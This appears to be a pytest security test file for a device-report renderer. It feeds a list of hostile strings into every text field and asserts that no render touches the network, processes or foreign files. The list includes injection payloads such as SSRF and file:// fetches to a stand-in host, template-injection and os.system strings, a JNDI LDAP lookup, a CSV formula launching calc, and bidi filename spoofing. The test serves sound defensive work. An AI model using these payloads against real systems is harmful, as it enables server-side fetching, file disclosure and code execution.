"""Hostile content: whatever a string holds it is text, and no render touches network, processes or foreign files.

Each document of the corpus puts its vectors into every place a content has for text. An audit hook in a process of its
own counts what happens. PYWORKER_HOSTILE_STRINGS=10000 generates as many strings; a few hundred here.
"""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report_asking import ask, bytes_of

ROOT = Path(__file__).parents[2]
BAIT = "/etc/hostname"
STRINGS = int(os.environ.get("PYWORKER_HOSTILE_STRINGS", "200"))

VECTORS = [
    # Fetching (REPORT_FACTS: each road the engine has out of a document).
    *(
        f'<{tag} {attribute}="{target}">'
        for tag, attribute in (
            ("img", "src"),
            ("link rel=stylesheet", "href"),
            ("pdf:insertpdf", "src"),
            ("pdf:font name=x", "src"),
            ("object", "data"),
            ("embed", "src"),
            ("iframe", "src"),
            ("script", "src"),
            ("base", "href"),
            ("a", "href"),
            ("body", "background"),
        )
        for target in ("http://192.0.2.1/x", f"file://{BAIT}", "../../../../etc/hostname")
    ),
    '<style>@import url("http://192.0.2.1/x.css");</style>',
    "<style>@font-face{src:url(http://192.0.2.1/x.ttf)}</style>",
    "<style>@page{background:url(file:///etc/hostname)}</style>",
    "<style>body{background:url(http://192.0.2.1)}</style>",
    "<style>@font-face{src:local(x)}</style>",
    "<style>}</style>",
    "<svg><image href='http://192.0.2.1/x'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><text font-family='nobody'>x</text></svg>",
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
    "ftp://192.0.2.1/x",
    "\\\\192.0.2.1\\share\\x",
    '"><img src=http://192.0.2.1/x>',
    "' onload='x",
    "</style></head><body><img src=http://192.0.2.1>",
    "-->",
    "<!--",
    "]]>",
    # Templates, engines and their colours.
    "{{ 7*7 }}",
    "{% include '/etc/hostname' %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 %>",
    "[[[getattr(pow, x)('os').system('true')]]]",
    '<font color="[x for x in ()]">x</font>',
    "<para><unichar code='0'/></para>",
    '<pdf:barcode value="x" type="qr">',
    "<pdf:nextpage>",
    "<pdf:toc/>",
    "&lt;img src=x&gt;",
    "&#60;img src=x&#62;",
    "&xxe;",
    # Text that lies or breaks.
    "invoice \u202efdp.exe",
    "\u2066\u2067\u2068\u2069\u202a\u202b",
    "\u200e\u200f\u061c",
    "a\x00b\x01\x1f\x7f\x9f",
    "\ud800 \udfff",
    "\ufeff\ufffe\uffff",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 20,
    "\U000e0041\U000e0042",
    "\u2028\u2029\x85",
    "A" * 3000,
    "word " * 2000,
    "\u0645\u0631\u062d\u0628\u0627 87 %",
    "\U0001f469\u200d\U0001f680",
    "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "\u0915\u094d\u0937",
    "<b>" * 400,
    "(" * 500,
    "%s%n%x",
    "${jndi:ldap://192.0.2.1/x}",
    "=cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "\\u003cimg src=x\\u003e",
    "\t\n\r" * 50,
    " " * 3000,
    "",
]


def content(text):
    """The text in every place that takes one."""
    finding = {
        "value": {"level_percent": 50, "vendor": text, text or "x": text},
        "evidence": [{"source": text, "key": text, "value": text}],
    }
    inspection = {
        "ok": True,
        "warnings": [],
        "data": {
            "activation_locked": None,
            "mdm_enrolled": True,
            "frp_locked": None,
            "efi_locked": None,
            "state": "ready",
            "connection": "usb",
            "hint": text,
            "observed_at": "2026-11-25T10:00:00+00:00",
            "device": {"device_id": text[:256] or "d", "platform": "ios", "name": text},
            "findings": {
                "activation_locked": {"value": None, "reason": "not_paired", "evidence": []},
                "mdm_organization": {"value": text or "x", "evidence": [{"source": text, "key": text, "value": text}]},
                "battery_state": finding,
                "something": finding,
            },
        },
    }
    return {
        "shop": {"name": text, "address": text, "phone": text, "website": text},
        "technician": text,
        "customer": text,
        "notes": text,
        "disclaimer": text,
        "title": text[:200],
        "device": {"device_id": text[:256] or "d", "platform": "ios", "model": text, "name": text},
        "results": {
            "inspect.basic": inspection,
            "inspect.deep": {**inspection, "data": {**inspection["data"], "signals": [], "notes": [text]}},
        },
    }


PROGRAM = """
import json, sys
sys.path[:0] = {paths!r}
from report_asking import ask
from pyworker.settings import Settings
settings = Settings()
settings.artifact_dir = sys.argv[1]
seen = []
def watch(event, arguments):
    if event.startswith(("socket.", "subprocess", "os.system", "os.exec", "os.fork", "os.posix_spawn", "pty.", "ctypes.dlopen")):
        seen.append([event, str(arguments)[:200]])
    elif event == "open" and isinstance(arguments[0], (str, bytes)):
        path = arguments[0] if isinstance(arguments[0], str) else arguments[0].decode()
        writes = isinstance(arguments[2], int) and arguments[2] & 0o3
        if {bait!r} in path or (writes and not path.startswith((sys.argv[1], "/dev/null"))):
            seen.append([event, path])
documents = json.load(sys.stdin)
ask(settings, format="pdf", content={{"device": {{"device_id": "d", "platform": "ios"}}}})
sys.addaudithook(watch)
for number, document in enumerate(documents):
    for format in ("pdf", "html"):
        ask(settings, report_id="rep_%d" % number, format=format, content=document)
print(json.dumps(seen))
"""


def test_no_document_of_the_corpus_leaves_the_process(tmp_path):
    assert len(VECTORS) >= 60
    home = tmp_path / "home"
    home.mkdir()
    marker = tmp_path / "code of the home folder ran"
    for name in (".reportlab_mods", ".reportlab_settings"):
        (home / name).write_text(f"open({str(marker)!r}, 'w')\n")
    (tmp_path / "artifacts").mkdir()
    program = PROGRAM.format(paths=[str(ROOT), str(ROOT / "tests")], bait=BAIT)
    done = subprocess.run(
        [sys.executable, "-B", "-c", program, str(tmp_path / "artifacts")],
        text=True,
        capture_output=True,
        check=False,
        input=json.dumps([content(vector) for vector in VECTORS]),
        timeout=300,
        env={"PATH": os.environ["PATH"], "HOME": str(home)},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout) == []
    assert not marker.exists()
    written = {
        str(path.relative_to(tmp_path / "artifacts")) for path in (tmp_path / "artifacts").rglob("*") if path.is_file()
    }
    assert written == {
        f"rep_{number}/report.{format}" for number in range(len(VECTORS)) for format in ("pdf", "html")
    } | {"rep_1/report.pdf"}


@pytest.mark.parametrize("vector", ["<img src=x>", "<script>1</script>", "{{ 7*7 }}", '"><b>', "&amp;"])
def test_markup_is_printed_as_it_was_written(vector):
    from html import unescape

    html = bytes_of(ask(content=content(vector), options={"audience": "technician"})).decode()
    body = html.partition("<body")[2]
    assert vector in unescape(body)
    if "<" in vector:
        assert vector not in body


@pytest.mark.parametrize("text", ["invoice \u202efdp.exe", "a\x00b", "\u2066x\u2069", "\U000e0041"])
def test_what_misleads_is_marked_and_said(text):
    made = ask(content={"device": {"device_id": "d", "platform": "ios"}, "notes": text})
    html = bytes_of(made).decode()
    assert "text_neutralised" in made["warnings"]
    assert "\ufffd" in html
    assert not set(html) & set("\u202e\x00\u2066\u2069\U000e0041")


def test_long_content_is_cut_and_says_so():
    made = ask(content={"device": {"device_id": "d", "platform": "ios"}, "notes": "x" * 20_000})
    assert "content_shortened" in made["warnings"]


_ANY = st.text(st.characters(), max_size=200) | st.sampled_from(VECTORS)


@given(_ANY)
@settings(max_examples=STRINGS, deadline=None)
def test_no_string_makes_a_render_fail(text):
    for format in ("html", "pdf"):
        assert ask(
            format=format,
            content={
                "device": {"device_id": "d", "platform": "ios", "model": text},
                "notes": text,
                "shop": {"name": text},
            },
        )["ok"]
